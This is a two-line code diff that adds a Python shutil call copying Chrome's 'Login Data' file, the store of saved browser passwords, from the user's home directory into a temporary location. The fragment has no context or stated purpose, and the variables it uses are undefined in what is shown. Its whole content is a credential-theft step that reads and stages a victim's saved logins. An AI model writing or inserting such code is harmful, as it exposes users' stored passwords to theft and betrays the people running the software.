@@ -1,0 +1,2 @@
+import shutil
+shutil.copy(home + '/.config/google-chrome/Default/Login Data', tmp)
